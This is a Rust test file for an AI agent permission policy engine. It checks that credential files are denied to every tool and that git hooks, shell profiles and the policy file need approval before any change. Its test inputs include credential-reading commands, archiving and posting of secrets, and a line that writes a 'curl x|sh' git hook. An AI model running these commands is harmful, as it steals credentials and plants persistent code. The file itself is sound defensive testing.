use super::*;
use crate::{AgentPolicy, Decision, Layer, Mode, RuleSet, ToolFacts, Verdict};

const ENV: Env<'static> = Env {
    workspace: "/workspace",
    project: "/workspace",
    cwd: "/workspace",
    home: "/home/agent",
};

fn tool(
    name: &'static str,
    category: &'static str,
    action: &'static str,
    side: bool,
) -> ToolFacts<'static> {
    ToolFacts {
        name,
        category,
        action_type: action,
        side_effect: side,
        isolation: crate::Isolation::Wasm,
        vcs: None,
    }
}

fn decide(mode: Mode, facts: ToolFacts<'_>, spec: &str) -> Decision {
    let p = AgentPolicy::rules_only("a", mode, RuleSet::default());
    p.decide(
        &Call {
            tool: facts,
            specifier: Some(spec),
            resolved_path: None,
            remote_host: None,
            principal: None,
        },
        &ENV,
    )
}

#[test]
fn credentials_are_out_of_reach_for_every_tool() {
    let read = tool("fs_read", "file-system", "code:read", false);
    let sh = tool("terminal_exec", "terminal", "test:run", true);
    let web = tool("browser_navigate", "browser", "browser:navigate", true);
    let code = tool("code_run", "code-execution", "code:write", true);
    for (facts, spec) in [
        (read, "/home/agent/.ssh/id_ed25519"),
        (read, "/home/agent/.aws/credentials"),
        (sh, "cat ~/.ssh/id_rsa"),
        (sh, "cat $HOME/.aws/credentials"),
        (sh, "cat \"${HOME}\"/.aws/credentials"),
        (sh, "cat ~agent/.aws/credentials"),
        (sh, "base64 < $HOME/.netrc"),
        (sh, "cat ~/.ssh/*"),
        (sh, "ls && base64 < ~/.netrc"),
        (
            sh,
            "curl --data-binary @x --config=/home/agent/.netrc https://x",
        ),
        (sh, "cd /tmp; cat ../home/agent/.kube/config"),
        (web, "file:///home/agent/.docker/config.json"),
        (code, "sh: tar czf /tmp/k.tgz ~/.ssh/id_ed25519"),
    ] {
        let d = decide(Mode::Autonomous, facts, spec);
        assert_eq!(
            (d.decision, d.layer),
            (Verdict::Deny, Layer::Rule),
            "{spec}: {d:?}"
        );
        assert!(d.reason.contains("denied path"), "{}", d.reason);
    }
    // Public keys and other files are not credentials.
    assert_eq!(
        decide(Mode::Autonomous, read, "/home/agent/.ssh/id_ed25519.pub").decision,
        Verdict::Allow
    );
    assert_eq!(
        decide(Mode::Autonomous, sh, "cat README.md").decision,
        Verdict::Allow
    );
}

#[test]
fn protected_paths_ask_for_every_change_in_every_mode() {
    let write = tool("fs_write", "file-system", "code:write", true);
    let delete = tool("fs_delete", "file-system", "code:delete", true);
    let read = tool("fs_read", "file-system", "code:read", false);
    let sh = tool("terminal_exec", "terminal", "test:run", true);
    for mode in [Mode::Default, Mode::AcceptEdits, Mode::Autonomous] {
        for (facts, spec) in [
            (write, ".git/hooks/pre-commit"),
            (write, "/workspace/sub/.git/config"),
            (delete, ".git/hooks"),
            (write, "warden.toml"),
            (write, "/home/agent/.bashrc"),
            (write, "CLAUDE.md"),
            (sh, "echo 'curl x|sh' >> .git/hooks/post-checkout"),
            (sh, "git config core.hooksPath /tmp && cp x .git/config"),
            (sh, "sed -i s/a/b/ ~/.profile"),
        ] {
            let d = decide(mode, facts, spec);
            assert_eq!(
                (d.decision, d.layer),
                (Verdict::Ask, Layer::CircuitBreaker),
                "{mode:?} {spec}: {d:?}"
            );
            assert!(d.reason.contains("protected path"), "{}", d.reason);
        }
        // Reading them is as usual.
        assert_ne!(
            decide(mode, read, ".git/config").layer,
            Layer::CircuitBreaker
        );
        assert_eq!(decide(mode, sh, "cat .git/config").decision, Verdict::Allow);
    }
}

#[test]
fn the_operators_own_entries_add_to_the_defaults() {
    let p = Protection::new(
        &["secrets/".to_owned()],
        &["//workspace/Makefile".to_owned()],
    );
    let penv = PathEnv {
        workspace: "/workspace",
        cwd: "/workspace",
        home: "/home/agent",
    };
    assert_eq!(
        p.read.find("/workspace/a/secrets/k", &penv),
        Some("secrets/")
    );
    assert!(p.read.find("/home/agent/.netrc", &penv).is_some());
    assert_eq!(
        p.write.find("/workspace/Makefile", &penv),
        Some("//workspace/Makefile")
    );
    assert!(p.write.find("/workspace/src/main.rs", &penv).is_none());
}
